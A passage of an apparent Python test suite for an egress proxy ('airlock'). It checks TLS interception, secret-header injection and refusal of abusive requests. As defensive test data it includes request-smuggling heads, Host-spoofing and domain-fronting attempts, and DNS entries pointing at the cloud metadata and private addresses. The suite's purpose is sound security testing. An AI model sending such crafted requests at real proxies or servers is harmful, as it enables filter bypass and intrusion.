          "the CA: P-256, pathlen 0, constrained to the inspected names: %s" % text[:2000])
    front = "allowed.test:%d" % FRONT_PORT

    # the fronting attack of test_fronting_opaque, now refused inside TLS
    before = len(FRONT_SEEN)
    conn = tunnel_client(px, "allowed.test", FRONT_PORT, cafile)
    st, h, body = fetch(conn, "/front", "other.test:%d" % FRONT_PORT)
    conn.close()
    check(st == 421 and "other.test" in h.get("X-Airlock-Egress", ""), "inspect: fronting answered 421 (%d %r)" % (st, h))
    check(len(FRONT_SEEN) == before, "inspect: the front never saw the fronted request")
    expect_one(px, "inspected fronting", "deny", "Host 'other.test:%d' is not the TLS name and CONNECT host" % FRONT_PORT,
               status=421, sni="allowed.test")

    # the allowed site: the client verifies the proxy's certificate for it
    # against the per-proxy CA alone; keep-alive, each request checked
    before = len(FRONT_SEEN)
    conn = tunnel_client(px, "allowed.test", FRONT_PORT, cafile)
    st, _, body = fetch(conn, "/one", front)
    issuer = dict(x[0] for x in conn.sock.getpeercert()["issuer"])
    check(st == 200 and body == b"site allowed.test: GET /one", "inspect: the allowed site answers (%d %r)" % (st, body))
    check("airlock egress CA" in issuer.get("commonName", ""), "inspect: the certificate is the proxy's (%s)" % issuer)
    st, _, body = fetch(conn, "/two?q=1", front)
    check(st == 200 and body == b"site allowed.test: GET /two?q=1", "inspect: a second request on the connection")
    big = os.urandom(300000)
    st, _, body = fetch(conn, "/three", front, method="POST", body=big)
    check(st == 200 and FRONT_SEEN[-1][4] == big, "inspect: a 300 KB body on the same connection arrives whole")
    st, _, body = fetch(conn, "/four", front, method="HEAD")
    check(st == 200 and body == b"", "inspect: HEAD (a response without a body) on the same connection")
    st, _, body = fetch(conn, "/five", front)
    check(st == 200 and body == b"site allowed.test: GET /five", "inspect: and a request after the HEAD")
    conn.close()
    seen = FRONT_SEEN[before:]
    check([x[2] for x in seen] == ["/one", "/two?q=1", "/three", "/four", "/five"] and
          all(x[0] == "allowed.test" for x in seen), "inspect: the front saw the five requests: %s" % [x[:3] for x in seen])
    check(all(x[5] in ("TLSv1.2", "TLSv1.3") for x in seen) and FRONT_SNI[-1] == "allowed.test",
          "inspect: the proxy spoke TLS 1.2+ with SNI to the front (%s, %s)" % ([x[5] for x in seen], FRONT_SNI[-1:]))
    check(all("Proxy-Connection" not in x[3] and x[3].get("Host") == front for x in seen),
          "inspect: the front got Host %s and no hop-by-hop headers" % front)
    expect_one(px, "inspected keep-alive", "allow", "inspected; 5 requests", sni="allowed.test", status=200)

    # a second request with another Host on a connection that worked
    conn = tunnel_client(px, "allowed.test", FRONT_PORT, cafile)
    st1, _, _ = fetch(conn, "/ok", front)
    st2, h2, _ = fetch(conn, "/sneaky", "other.test:%d" % FRONT_PORT)
    conn.close()
    check(st1 == 200 and st2 == 421, "inspect: a later request with another Host is refused (%d, %d)" % (st1, st2))
    check(FRONT_SEEN[-1][2] == "/ok", "inspect: the front never saw it")
    expect_one(px, "fronting after a good request", "deny", "other.test", status=421)

    # pipelined: two heads in one write, answered in order; the client's
    # Connection: close is honoured after the second
    s, head = connect_tunnel(px, front)
    t = ssl.create_default_context(cafile=cafile).wrap_socket(s, server_hostname="allowed.test")
    t.sendall(("GET /p1 HTTP/1.1\r\nHost: %s\r\n\r\nGET /p2 HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
               % (front, front)).encode())
    t.settimeout(5)
    data = read_response(t)
    t.close()
    check(data.count(b"HTTP/1.1 200") == 2 and data.index(b"GET /p1") < data.index(b"GET /p2"),
          "inspect: pipelined requests answered in order, then closed (%r)" % data[-200:])
    expect_one(px, "pipelined", "allow", "2 requests; the client asked to close")

    # what a request inside may not be
    for req, status, why in [
            (b"GET https://other.test/ HTTP/1.1\r\nHost: %s\r\n\r\n" % front.encode(), 400, "origin form"),
            (b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n", 400, "CONNECT inside"),
            (b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n", 421, "is not the TLS name"),  # port 443 implied
            (b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", 400, "more than one Host"),
            (b"POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n" % front.encode(),
             400, "smuggling")]:
        s, head = connect_tunnel(px, front)
        t = ssl.create_default_context(cafile=cafile).wrap_socket(s, server_hostname="allowed.test")
        t.sendall(req)
        t.settimeout(5)
        data = read_response(t)
        t.close()
        check(status_of(data) == status, "inspect: %r answered %d (got %r)" % (req[:40], status, data[:60]))
        expect_one(px, "inspect refusal " + why, "deny", why, status=status)
    # HTTP/1.0 without Host: the proxy names the host, and closes after
    s, head = connect_tunnel(px, front)
    t = ssl.create_default_context(cafile=cafile).wrap_socket(s, server_hostname="allowed.test")
    t.sendall(b"GET /old HTTP/1.0\r\n\r\n")
    t.settimeout(5)
    data = read_response(t)
    t.close()
    check(status_of(data) == 200 and b"site allowed.test: GET /old" in data, "inspect: HTTP/1.0 without Host (%r)" % data)
    expect_one(px, "HTTP/1.0", "allow", "1 request")

    # ALPN: http/1.1 only, also to a client that would rather speak h2
    for offer, want in [(["h2", "http/1.1"], "http/1.1"), (["h2"], None)]:
        s, head = connect_tunnel(px, front)
        ctx = ssl.create_default_context(cafile=cafile)
        ctx.set_alpn_protocols(offer)
        t = ctx.wrap_socket(s, server_hostname="allowed.test")
        got = t.selected_alpn_protocol()
        if want is None:  # an h2-only client that sends its preface anyway
            t.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
            t.settimeout(5)
            data = read_response(t)
            check(status_of(data) in (400, 505), "inspect: an HTTP/2 preface is refused (%r)" % data[:40])
        t.close()
        check(got == want, "inspect: ALPN offered %s, chose %r (want %r)" % (offer, got, want))
        px.new_records()

    # a client that trusts only the public store (here: the test CA) does not
    # accept the proxy's certificate: nothing is sent
    before = len(FRONT_SEEN)
    conn = tunnel_client(px, "allowed.test", FRONT_PORT, testca)
    try:
        fetch(conn, "/untrusted", front)
        failed = False
    except ssl.SSLCertVerificationError:
        failed = True
    conn.close()
    check(failed and len(FRONT_SEEN) == before, "inspect: a client without the CA refuses the proxy's certificate")
    expect_one(px, "client without the CA", "allow", "TLS handshake failed")

    # the proxy verifies the upstream: an untrusted certificate, and a
    # certificate for other names, are 502 and nothing is sent
    before_up, before_front = len(UPSTREAM_SEEN), len(FRONT_SEEN)
    for host, port in [("api.test", 28444), ("wrongname.test", FRONT_PORT)]:
        conn = tunnel_client(px, host, port, cafile)
        st, h, _ = fetch(conn, "/x", "%s:%d" % (host, port))
        conn.close()
        check(st == 502 and "certificate" in h.get("X-Airlock-Egress", ""),
              "inspect: %s:%d with a certificate the proxy refuses: 502 (%d %r)" % (host, port, st, h))
        expect_one(px, "inspected upstream %s" % host, "deny", "certificate not accepted", status=502)
    check(len(UPSTREAM_SEEN) == before_up and len(FRONT_SEEN) == before_front, "inspect: refused upstreams got nothing")

    # injection on an inspected host: every request carries the key, the
    # sandbox's own header is replaced, the key never comes back
    before = len(UPSTREAM_SEEN)
    conn = tunnel_client(px, "api.test", 28443, cafile)
    answers = []
    for path in ("/v1/messages", "/v1/redirect"):
        st, h, body = fetch(conn, path, "api.test:28443", method="POST", headers={"x-api-key": "fake"}, body=b'{"q":1}')
        answers.append((st, h, body))
    conn.close()
    check([a[0] for a in answers] == [200, 302], "inspect+inject: answers passed back (%s)" % [a[0] for a in answers])
    got = UPSTREAM_SEEN[before:]
    keys = [[v for k, v in g[2].items() if k.lower() == "x-api-key"] for g in got]
    check(len(got) == 2 and keys == [[SECRET], [SECRET]], "inspect+inject: the upstream got the key, once, each time")
    check(all(SECRET.encode() not in b and SECRET not in str(h) for _, h, b in answers),
          "inspect+inject: the key is not in what the sandbox got")
    check(len(UPSTREAM_SEEN) == before + 2, "inspect+inject: the redirect was not followed")
    expect_one(px, "inspect with injection", "allow", "inspected; 2 requests", host="api.test")

    # an answer and its close_notify in one flight: the answer arrives
    ok = 0
    for _ in range(10):
        conn = tunnel_client(px, "api.test", CLOSER_PORT, cafile)
        st, _, body = fetch(conn, "/x", "api.test:%d" % CLOSER_PORT)
        conn.close()
        ok += st == 200 and body == b"closed right after"
        expect_one(px, "inspected closing upstream", "allow", "1 request; the upstream closed")
    check(ok == 10, "inspect: answers followed at once by close_notify arrive (%d/10)" % ok)

    # opaque rules beside inspected ones stay opaque (allowed.test:28443)
    head, body = tls_through(px, "allowed.test:28443", "allowed.test")
    check(isinstance(body, bytes) and b"hello from GET /x" in body, "inspect: a rule without inspect stays opaque")
    r = expect_one(px, "opaque beside inspected", "allow", "allowed by rule")
    check(r is not None and "inspected" not in r.get("reason", ""), "the opaque tunnel's record says so")
    px.proc.terminate()
    px.proc.wait(5)
    with open(px.stderr.name) as f:
        err = f.read()
    check(px.proc.returncode == 0 and "Sanitizer" not in err, "the inspect proxy exits 0, clean (%s)" % err[-2000:])


def test_inspect_timers():
    """Inside an inspected tunnel: a head that has begun must end within
    headerTimeout (408); a keep-alive connection left idle is closed at
    idleTimeout, with its one record."""
    cafile = os.path.join(TMP, "egress-ca-slow.pem")
    px = Proxy("inspect-slow", dict(INSPECT_NET, limits={"headerTimeout": 1, "idleTimeout": 2}),
               extra=("--ca-cert", cafile))
    front = "allowed.test:%d" % FRONT_PORT
    s, head = connect_tunnel(px, front)
    t = ssl.create_default_context(cafile=cafile).wrap_socket(s, server_hostname="allowed.test")
    t.sendall(b"GET /slow HTTP/1.1\r\nHost: allow")
    t0 = time.time()
    t.settimeout(5)
    data = read_response(t)
    t.close()
    check(status_of(data) == 408 and time.time() - t0 < 3, "inspect: a slow head inside TLS is cut (%r)" % data[:40])
    expect_one(px, "inspect slow head", "deny", "no complete request head", status=408)
    conn = tunnel_client(px, "allowed.test", FRONT_PORT, cafile)
    st, _, _ = fetch(conn, "/idle", front)
    t0 = time.time()
    conn.sock.settimeout(5)
    rest = read_response(conn.sock)
    conn.close()
    check(st == 200 and rest == b"" and 1.5 < time.time() - t0 < 4.5,
          "inspect: an idle keep-alive connection closed at idleTimeout (%.1f s)" % (time.time() - t0))
    expect_one(px, "inspect idle", "allow", "1 request; idle for limits.idleTimeout")
    px.proc.terminate()
    px.proc.wait(5)


def test_secret_nowhere():
    """The secret's value appears in no output, log or file of the run
    (the encrypted store excepted)."""
    hits = []
    for root, dirs, files in os.walk(TMP):
        for fn in files:
            path = os.path.join(root, fn)
            if path.startswith(STATE):
                continue
            with open(path, "rb") as f:
                if SECRET.encode() in f.read():
                    hits.append(path)
    with open(os.path.join(STATE, "secrets.db"), "rb") as f:
        check(SECRET.encode() not in f.read(), "secret not in the store in clear")
    check(not hits, "secret value found in %s" % hits)


def main():
    global STATE, BASE_NET, INSPECT_NET
    make_certs()
    STATE = os.path.join(TMP, "state")
    os.makedirs(STATE, mode=0o700)
    r = subprocess.run([AIRLOCK, "secret", "set", "anthropic", "--state-dir", STATE], input=SECRET.encode(),
                       capture_output=True)
    check(r.returncode == 0, "secret set: %s" % r.stderr)

    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(os.path.join(TMP, "srv.pem"), os.path.join(TMP, "srv.key"))
    bad = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    bad.load_cert_chain(os.path.join(TMP, "self.pem"), os.path.join(TMP, "self.key"))
    servers = [serve(28080), serve(28443, tls), serve(28444, bad), serve_front()]
    bulk_server()
    closer_server()

    names = {"allowed.test": [UP], "api.test": [UP], "other.test": [UP], "a.wild.test": [UP], "wrongname.test": [UP],
             "rebind.test": ["127.0.0.1"], "meta.test": ["169.254.169.254"], "private.test": ["10.0.0.1"],
             "v6.test": ["::1"], "mapped.test": ["::ffff:10.0.0.1"], "mixed.test": ["10.0.0.1", UP]}
    dns_port = start_resolver(names)

    BASE_NET = {
        "allow": ["allowed.test:28443", "allowed.test:28080", "*.wild.test:28443", "rebind.test:28443",
                  "meta.test:28443", "private.test:28443", "v6.test:28443", "mapped.test:28443", "mixed.test:28443",
                  "10.0.0.1:28443", "*.evil.test", "allowed.test:%d" % BULK_PORT, "allowed.test:28446",
                  "allowed.test:%d" % FRONT_PORT],
        "opaquePorts": [BULK_PORT],
        "deny": ["*.evil.test"],
        "allowAddresses": [UP],
        "resolver": "127.0.0.1:%d" % dns_port,
        "upstreamCa": os.path.join(TMP, "ca.pem"),
        "inject": [
            {"path": "/llm/", "upstream": "https://api.test:28443", "inject": {"header": "x-api-key",
                                                                                "secret": "anthropic"}},
            {"path": "/bad/", "upstream": "https://api.test:28444", "inject": {"header": "x-api-key",
                                                                                "secret": "anthropic"}},
            {"path": "/closer/", "upstream": "https://api.test:%d" % CLOSER_PORT,
             "inject": {"header": "x-api-key", "secret": "anthropic"}},
        ],
    }
    # the same, with inspected hosts: the front, an injection upstream, an
    # upstream with an untrusted certificate, and a name the front's
    # certificate does not have
    INSPECT_NET = dict(BASE_NET, allow=[r for r in BASE_NET["allow"] if r != "allowed.test:%d" % FRONT_PORT] + [
        {"host": "allowed.test:%d" % FRONT_PORT, "inspect": True},
        {"host": "api.test:28443", "inspect": True, "inject": {"header": "x-api-key", "secret": "anthropic"}},
        {"host": "api.test:28444", "inspect": True},
        {"host": "wrongname.test:%d" % FRONT_PORT, "inspect": True},
        {"host": "api.test:%d" % CLOSER_PORT, "inspect": True}])
    px = Proxy("main", BASE_NET)
    with open("/proc/%d/status" % px.proc.pid) as f:
        check("NoNewPrivs:\t1" in f.read(), "the proxy runs with no_new_privs")
    tests = [test_allowed_paths, test_sni, test_ip_literals, test_resolving_inside, test_suffix_confusion,
             test_smuggling, test_host_spoof, test_dns_names_not_resolved, test_injection, test_bulk_tunnel,
             test_connect_fails, test_fronting_opaque]
    for t in tests:
        print("--", t.__name__, flush=True)
        t(px)
    print("-- test_byte_cap", flush=True)
    test_byte_cap()
    print("-- test_rate_limits", flush=True)
    test_rate_limits()
    print("-- test_slow_and_floods", flush=True)
    test_slow_and_floods()
    print("-- test_inspect", flush=True)
    test_inspect()
    print("-- test_inspect_timers", flush=True)
    test_inspect_timers()
    px.proc.terminate()
    px.proc.wait(5)
    check(px.proc.returncode == 0, "proxy exits 0 on SIGTERM")
    # bad configurations refuse to start, naming the key
    for net, part in [({"allow": ["a.com:0"]}, "network.allow"), ({"inject": [{"path": "/x/", "upstream":
                      "https://a.test", "inject": {"header": "h", "secret": "missing"}}]}, "missing"),
                      ({"limits": {"maxConnections": -1}}, "limits.maxConnections"),
                      ({"allow": [{"host": "10.0.0.0/8", "inspect": True}]}, "IP rule"),
                      ({"allow": [{"host": "a.test", "inject": {"header": "h", "secret": "anthropic"}}]},
                       "network.allow[0].inject"),
                      ({"allow": [{"host": "a.test", "inspect": 1}]}, "network.allow[0].inspect")]:
        cfg = os.path.join(TMP, "bad.json")
        with open(cfg, "w") as f:
            json.dump({"network": net}, f)
        r = run([AIRLOCK, "proxy", "--listen", "127.0.0.1:%d" % free_port(), "--config", cfg, "--state-dir", STATE],
                timeout=10)
        check(r.returncode == 125 and part in r.stderr, "bad config refused naming %s: %r" % (part, r.stderr))
    cfg = os.path.join(TMP, "plain.json")
    with open(cfg, "w") as f:
        json.dump({"network": {"allow": ["a.test"]}}, f)
    r = run([AIRLOCK, "proxy", "--listen", "127.0.0.1:%d" % free_port(), "--config", cfg, "--ca-cert",
             os.path.join(TMP, "none.pem")], timeout=10)
    check(r.returncode == 125 and "no allow entry" in r.stderr and not os.path.exists(os.path.join(TMP, "none.pem")),
          "--ca-cert without inspected hosts refused: %r" % r.stderr)
    r = run([AIRLOCK, "proxy", "--listen", "nowhere"], timeout=10)
    check(r.returncode != 0 and "nowhere" in r.stderr, "bad --listen refused")
    r = run([AIRLOCK, "proxy"], timeout=10)
    check(r.returncode == 125 and "--listen" in r.stderr, "missing --listen refused")
    test_secret_nowhere()
    for s in servers:
        s.shutdown()
    print("%d passed, %d failed" % (PASSES, len(FAILS)))
    return 1 if FAILS else 0


def run_main(fn):
    """Run a suite's main, stop what it started, keep TMP when it failed
    (or KEEP_TMP=1), exit with its code (77: skipped)."""
    rc = 1
    try:
        rc = fn()
    finally:
        for p in PROCS:
            if p.poll() is None:
                p.kill()
        if rc in (0, 77) and not FAILS and os.environ.get("KEEP_TMP") != "1":
            shutil.rmtree(TMP, ignore_errors=True)
        else:
            print("kept", TMP)
    sys.exit(rc)


if __name__ == "__main__":
    run_main(main)
